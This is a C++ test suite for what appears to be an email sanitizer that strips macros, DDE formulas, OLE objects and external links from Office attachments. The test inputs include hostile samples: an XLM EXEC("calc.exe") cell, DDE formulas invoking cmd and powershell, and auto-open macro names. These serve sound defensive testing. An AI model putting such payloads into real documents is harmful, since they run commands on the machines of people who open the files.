          {"xl/workbook.xml",
           std::string(kDecl) + "<workbook " + ns + " xmlns:r=\"" + rns +
               "\"><sheets><sheet name=\"Auto\" sheetId=\"1\" r:id=\"rId2\"/>"
               "<sheet name=\"Data\" sheetId=\"2\" r:id=\"rId1\"/></sheets><definedNames>"
               "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Auto!$A$1</definedName>"
               "<definedName name=\"Auto_Close1\">Auto!$A$2</definedName>"
               "<definedName name=\"auto_activate\">Auto!$A$3</definedName>"
               "<definedName name=\"Total\" localSheetId=\"1\">Data!$B$2</definedName>"
               "</definedNames></workbook>"},
          {"xl/_rels/workbook.xml.rels",
           rels({{"rId1", r + "worksheet", "worksheets/sheet1.xml"},
                 {"rId2", row.relType, "hostile/sheet2.xml"}})},
          {"xl/worksheets/sheet1.xml",
           std::string(kDecl) + "<worksheet " + ns +
               "><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Data</t></is></c>"
               "</row></sheetData></worksheet>"},
          {"xl/hostile/sheet2.xml",
           std::string(kDecl) + "<" + row.root + " " + ns +
               " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
               "<row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></" +
               row.root + ">"},
      };
      const PartOutput o = run(makeZip(files), "xlsm", "m.xlsm");
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      CHECK_FALSE(hasEntryContaining(out, "hostile"));
      for (const auto& file : out) {
        // Plain names, not a structured binding: clang before 16 cannot capture one.
        const std::string& name = file.first;
        const std::string& data = file.second;
        CHECK_MESSAGE(data.find("EXEC(") == std::string::npos, name);
      }
      const std::string* wb = entry(out, "xl/workbook.xml");
      REQUIRE(wb != nullptr);
      CHECK(countElements(*wb, "sheet") == 1);
      CHECK(textOf(*wb, "definedName") == "Data!$B$2");
      {
        Xml x(*wb);
        REQUIRE(x.doc != nullptr);
        walk(xmlDocGetRootElement(x.doc), [](xmlNode* n) {
          const std::string_view local = reinterpret_cast<const char*>(n->name);
          if (local == "sheet") CHECK(attrOf(n, "name") == "Data");
          if (local == "definedName") CHECK(attrOf(n, "localSheetId") == "0");
        });
      }
      const auto problems = activeContent(out);
      CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
      CHECK(hasFinding(o, "ooxml.xlm_macro_removed"));
      CHECK(hasFinding(o, "ooxml.auto_macro_name_removed"));
    }
  }

  TEST_CASE("ooxml: DDE formulas lose the formula and keep the cached value") {
    const std::string ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    const std::string r = kR;
    const std::string rns = r.substr(0, r.size() - 1);
    const std::vector<std::string> formulas = {
        "cmd|' /c calc'!A0",
        "=cmd|'/c powershell -e AAAA'!'A1'",
        "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "SUM(1,2)+cmd|'/c calc'!A0",
    };
    std::string cells;
    for (std::size_t i = 0; i < formulas.size(); ++i) {
      cells += "<c r=\"A" + std::to_string(i + 1) + "\"><f>" + xmlEscapeForTest(formulas[i]) +
               "</f><v>" + std::to_string(100 + i) + "</v></c>";
    }
    cells += "<c r=\"B1\"><f>SUM(A1:A4)</f><v>406</v></c>";
    const Files files = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                      "xl/workbook.xml")},
        {"_rels/.rels", rels({{"rId1", r + "officeDocument", "xl/workbook.xml"}})},
        {"xl/workbook.xml", std::string(kDecl) + "<workbook " + ns + " xmlns:r=\"" + rns +
                                "\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>"
                                "</sheets></workbook>"},
        {"xl/_rels/workbook.xml.rels", rels({{"rId1", r + "worksheet", "worksheets/sheet1.xml"}})},
        {"xl/worksheets/sheet1.xml", std::string(kDecl) + "<worksheet " + ns +
                                         "><sheetData><row r=\"1\">" + cells +
                                         "</row></sheetData></worksheet>"},
    };
    const PartOutput o = run(makeZip(files), "xlsx", "d.xlsx");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    const std::string* ws = entry(out, "xl/worksheets/sheet1.xml");
    REQUIRE(ws != nullptr);
    CHECK(textOf(*ws, "f") == "SUM(A1:A4)");
    CHECK(textOf(*ws, "v") == "100101102103406");
    CHECK(countElements(*ws, "c") == 5);
    CHECK(ws->find('|') == std::string::npos);
    const auto problems = activeContent(out);
    CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
    CHECK(hasFinding(o, "ooxml.dde_formula_removed"));
  }

  TEST_CASE("ooxml: handles every OOXML token and nothing else") {
    const OoxmlSanitizer s;
    for (const char* t : {"docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "pptx",
                          "pptm", "potx", "potm", "ppsx", "ppsm", "ooxml"}) {
      CHECK_MESSAGE(s.handles(t, ""), t);
    }
    for (const char* t : {"zip", "doc", "ooxml-encrypted", "odf", "pdf", "text"}) {
      CHECK_FALSE_MESSAGE(s.handles(t, ""), t);
    }
  }

  TEST_CASE("ooxml: a binary workbook (.xlsb) is not passed through") {
    Files files = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.ms-excel.sheet.binary.macroEnabled.main",
                      "xl/workbook.bin")},
        {"_rels/.rels", rels({{"rId1", std::string(kR) + "officeDocument", "xl/workbook.bin"}})},
        {"xl/workbook.bin", "binary"},
    };
    const PartOutput o = run(makeZip(files), "ooxml", "b.xlsb");
    CHECK(o.disposition == Disposition::Removed);
    CHECK(o.reason == "ooxml.unsupported_kind");
  }

  TEST_CASE("ooxml: a .docm attachment comes out of the pipeline as a rebuilt .docx") {
    const std::string docm = makeZip(hostileDocm());
    gchar* b64 = g_base64_encode(reinterpret_cast<const guchar*>(docm.data()), docm.size());
    const std::string mail =
        "From: a@example.jp\r\nTo: b@example.jp\r\nSubject: doc\r\nDate: Mon, 1 Jan 2024 "
        "00:00:00 +0900\r\nMessage-ID: <1@example.jp>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n"
        "Content-Type: text/plain; charset=us-ascii\r\n\r\nsee attached\r\n--b\r\n"
        "Content-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"report.docm\"\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename=\"report.docm\"\r\n\r\n" +
        std::string(b64) + "\r\n--b--\r\n";
    g_free(b64);
    const mugai::core::Outcome o =
        mugai::core::sanitizeMessage(mail, mugai::core::Policy::defaults());
    REQUIRE(o.delivered);
    bool found = false;
    for (const auto& p : o.report.parts) {
      if (p.trueType != "docm") continue;
      found = true;
      CHECK(p.sanitizer == "ooxml");
      CHECK(p.disposition == Disposition::Rebuilt);
      CHECK(p.outputName == "report.docx");
    }
    CHECK(found);

    GMimeStream* stream = g_mime_stream_mem_new_with_buffer(o.message.data(), o.message.size());
    GMimeParser* parser = g_mime_parser_new_with_stream(stream);
    GMimeMessage* msg = g_mime_parser_construct_message(parser, nullptr);
    g_object_unref(parser);
    g_object_unref(stream);
    REQUIRE(msg != nullptr);
    std::string attachment;
    std::string filename;
    GMimePartIter* it = g_mime_part_iter_new(GMIME_OBJECT(msg));
    do {
      GMimeObject* obj = g_mime_part_iter_get_current(it);
      if (obj == nullptr || !GMIME_IS_PART(obj)) continue;
      GMimeContentType* ct = g_mime_object_get_content_type(obj);
      if (!g_mime_content_type_is_type(
              ct, "application", "vnd.openxmlformats-officedocument.wordprocessingml.document")) {
        continue;
      }
      const char* fn = g_mime_part_get_filename(GMIME_PART(obj));
      filename = fn != nullptr ? fn : "";
      GMimeDataWrapper* w = g_mime_part_get_content(GMIME_PART(obj));
      GMimeStream* mem = g_mime_stream_mem_new();
      g_mime_data_wrapper_write_to_stream(w, mem);
      GByteArray* arr = g_mime_stream_mem_get_byte_array(GMIME_STREAM_MEM(mem));
      attachment.assign(reinterpret_cast<const char*>(arr->data), arr->len);
      g_object_unref(mem);
    } while (g_mime_part_iter_next(it));
    g_mime_part_iter_free(it);
    g_object_unref(msg);
    CHECK(filename == "report.docx");
    const Files out = readZip(attachment);
    REQUIRE(!out.empty());
    CHECK_FALSE(hasEntryContaining(out, "vbaproject"));
    const std::string* doc = entry(out, "word/document.xml");
    REQUIRE(doc != nullptr);
    CHECK(textOf(*doc, "t").find("Hello") != std::string::npos);
  }
}

TEST_SUITE("ooxml-fidelity") {
  TEST_CASE("ooxml: LibreOffice still reads the document's text after the rebuild") {
    if (std::system("command -v soffice >/dev/null 2>&1") != 0) {
      MESSAGE("soffice not installed: LibreOffice fidelity check skipped");
      return;
    }
    const std::filesystem::path dir =
        std::filesystem::temp_directory_path() / ("mugai-ooxml-" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir);
    const PartOutput o = run(makeZip(hostileDocm()), "docm", "report.docm");
    REQUIRE(o.disposition == Disposition::Rebuilt);
    {
      std::ofstream f(dir / "report.docx", std::ios::binary);
      f << o.bytes;
    }
    const std::string cmd = "cd '" + dir.string() +
                            "' && HOME='" + dir.string() + "' timeout 120 soffice --headless "
                            "--convert-to txt:Text report.docx >/dev/null 2>&1";
    REQUIRE(std::system(cmd.c_str()) == 0);
    std::ifstream t(dir / "report.txt", std::ios::binary);
    const std::string text((std::istreambuf_iterator<char>(t)), {});
    CHECK(text.find("Hello") != std::string::npos);
    CHECK(text.find("good link") != std::string::npos);
    CHECK(text.find("RESULT") != std::string::npos);
    std::filesystem::remove_all(dir);
  }
}

// Third-party corpora. The suite is named exactly "third-party": doctest matches -ts/-tse against
// the whole suite name, and ctest runs "unit" with -tse=third-party, "corpus" with -ts=third-party.
TEST_SUITE("third-party") {
  TEST_CASE("ooxml: every third-party Office file comes out without active content") {
    const auto corpus = thirdPartyRoot();
    if (!corpus) return;
    const std::filesystem::path& root = *corpus;
    int rebuilt = 0;
    int benignChecked = 0;
    for (const char* sub : {"poi", "oletools", "tika", "calamine", "mammoth", "python-docx"}) {
      if (!std::filesystem::is_directory(root / sub)) continue;
      for (const auto& de : std::filesystem::recursive_directory_iterator(root / sub)) {
        if (!de.is_regular_file()) continue;
        std::string ext = de.path().extension().string();
        std::transform(ext.begin(), ext.end(), ext.begin(),
                       [](unsigned char c) { return std::tolower(c); });
        if (ext != ".docx" && ext != ".docm" && ext != ".xlsx" && ext != ".xlsm" &&
            ext != ".pptx" && ext != ".pptm") {
          continue;
        }
        const std::string bytes = mugai::testing::readFile(de.path());
        const std::string token = mugai::core::sniff(bytes, Limits{});
        CAPTURE(de.path().string());
        CAPTURE(token);
        if (!OoxmlSanitizer{}.handles(token, "")) continue;
        const PartOutput o = run(bytes, token, de.path().filename().string());
        const bool benign =
            std::string_view(sub) == "mammoth" || std::string_view(sub) == "python-docx";
        if (o.disposition != Disposition::Rebuilt) {
          MESSAGE("removed: " << o.reason);
          CHECK_FALSE(benign);
          continue;
        }
        ++rebuilt;
        const Files out = readZip(o.bytes);
        REQUIRE(!out.empty());
        for (const char* bad : {"vbaproject", "vbadata", "activex", "embeddings", "oleobject",
                                "externallink", "customui", "macrosheet"}) {
          CHECK_FALSE_MESSAGE(hasEntryContaining(out, bad), bad);
        }
        for (const RelRow& r : relsOf(out)) {
          CHECK_MESSAGE(externalTargetIsWebOrMail(r), r.part, " ", r.target);
        }
        const auto problems = activeContent(out);
        CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
        const std::string plain = token.substr(0, 2) == "do"   ? ".docx"
                                  : token.substr(0, 2) == "xl" ? ".xlsx"
                                                               : ".pptx";
        if (token != "ooxml") {
          CHECK(o.filename.size() > 5);
          CHECK(o.filename.substr(o.filename.size() - 5) == plain);
        }
        for (const auto& file : out) {
          // Plain names, not a structured binding: clang before 16 cannot capture one.
          const std::string& name = file.first;
          const std::string& data = file.second;
          if (name.size() > 4 && name.compare(name.size() - 4, 4, ".xml") == 0) {
            std::string instrs = textOf(data, "instrText");
            std::transform(instrs.begin(), instrs.end(), instrs.begin(),
                           [](unsigned char c) { return std::toupper(c); });
            CHECK_MESSAGE(instrs.find("DDE") == std::string::npos, name);
            Xml x(data);
            CHECK_MESSAGE(x.doc != nullptr, name);
          }
        }
        if (benign && ext == ".docx") {
          const Files in = readZip(bytes);
          const std::string* before = entry(in, "word/document.xml");
          const std::string* after = entry(out, "word/document.xml");
          if (before != nullptr) {
            REQUIRE(after != nullptr);
            CHECK(textOf(*before, "t") == textOf(*after, "t"));
            ++benignChecked;
          }
          for (const auto& file : in) {
            // Plain names, not a structured binding: clang before 16 cannot capture one.
            const std::string& name = file.first;
            const std::string& data = file.second;
            if (name.rfind("word/media/", 0) != 0) continue;
            const std::string t = mugai::core::sniff(data, Limits{});
            if (t == "png" || t == "jpeg" || t == "gif") {
              CHECK_MESSAGE(entry(out, name) != nullptr, name);
            }
          }
        }
      }
    }
    MESSAGE("rebuilt " << rebuilt << " third-party files; text compared on " << benignChecked);
    CHECK(rebuilt > 10);
    CHECK(benignChecked > 3);
  }

  TEST_CASE("ooxml: Office 2007 OLE objects (oletools) keep their preview as a picture") {
    const auto corpus = thirdPartyRoot("oletools");
    if (!corpus) return;
    struct Row {
      const char* file;
      const char* token;
      const char* part;  // the part that shows the picture
    };
    for (const Row& row : {Row{"embedded-simple-2007.pptx", "pptx", "ppt/slides/slide1.xml"},
                           Row{"embedded-simple-2007.xlsx", "xlsx", "xl/drawings/drawing1.xml"}}) {
      CAPTURE(row.file);
      const PartOutput o =
          run(mugai::testing::readFile(*corpus / "oletools" / row.file), row.token, row.file);
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      CHECK_FALSE(hasEntryContaining(out, "embeddings"));
      CHECK_FALSE(hasEntryContaining(out, "oleobject"));
      const std::string* shown = entry(out, row.part);
      REQUIRE(shown != nullptr);
      CHECK(countElements(*shown, "pic") == 1);
      CHECK(countElements(*shown, "oleObj") == 0);
      const auto partRels = relsById(out, row.part);
      Xml x(*shown);
      REQUIRE(x.doc != nullptr);
      int images = 0;
      walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
        if (std::string_view(reinterpret_cast<const char*>(n->name)) != "blip") return;
        const auto rel = partRels.find(attrOf(n, "embed"));
        REQUIRE(rel != partRels.end());
        const std::string* img = entry(out, rel->second.second);
        REQUIRE(img != nullptr);
        CHECK(img->size() > 100);
        ++images;
      });
      CHECK(images == 1);
    }
  }

  TEST_CASE("ooxml: known hostile third-party files lose exactly what they carry") {
    const auto corpus = thirdPartyRoot("oletools");
    if (!corpus) return;
    const std::filesystem::path& root = *corpus;
    struct Row {
      const char* file;
      const char* outName;
      std::vector<const char*> codes;  // findings the rebuild must report
    };
    const std::vector<Row> rows = {
        {"oletools/dde-test.docx", "dde-test.docx", {"ooxml.dde_removed"}},
        // A .docm without a VBA part: only its type changes.
        {"oletools/harmless-clean.docm", "harmless-clean.docx", {"ooxml.macro_free_conversion"}},
        {"oletools/oleform-PR314.docm", "oleform-PR314.docx",
         {"ooxml.vba_removed", "ooxml.macro_free_conversion"}},
        {"oletools/embedded-simple-2007.docx", "embedded-simple-2007.docx", {"ooxml.ole_removed"}},
        {"oletools/embedded-simple-2007.xlsx", "embedded-simple-2007.xlsx", {"ooxml.ole_removed"}},
        {"oletools/embedded-simple-2007.pptx", "embedded-simple-2007.pptx", {"ooxml.ole_removed"}},
        // Its external link is an oleObject relationship to a remote .doc.
        {"oletools/sample_with_external_link_to_doc.docx", "sample_with_external_link_to_doc.docx",
         {"ooxml.ole_removed"}},
        {"poi/SimpleMacro.docm", "SimpleMacro.docx", {"ooxml.vba_removed"}},
        {"poi/SimpleMacro.xlsm", "SimpleMacro.xlsx", {"ooxml.vba_removed"}},
        {"poi/SimpleMacro.pptm", "SimpleMacro.pptx", {"ooxml.vba_removed"}},
        {"mammoth/external-picture.docx", "external-picture.docx",
         {"ooxml.external_reference_removed"}},
    };
    for (const Row& row : rows) {
      const std::string file = row.file;
      CAPTURE(file);
      std::ifstream f(root / row.file, std::ios::binary);
      if (!f) {
        MESSAGE("missing from the corpus: " << row.file);
        continue;
      }
      const std::string bytes((std::istreambuf_iterator<char>(f)), {});
      const std::string token = mugai::core::sniff(bytes, Limits{});
      const PartOutput o =
          run(bytes, token, std::filesystem::path(row.file).filename().string());
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      CHECK(o.filename == row.outName);
      const Files out = readZip(o.bytes);
      const auto problems = activeContent(out);
      CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
      std::string found;
      for (const auto& fi : o.findings) found += fi.kind + " ";
      CAPTURE(found);
      for (const char* code : row.codes) CHECK_MESSAGE(hasFinding(o, code), std::string(code));
    }
  }
}
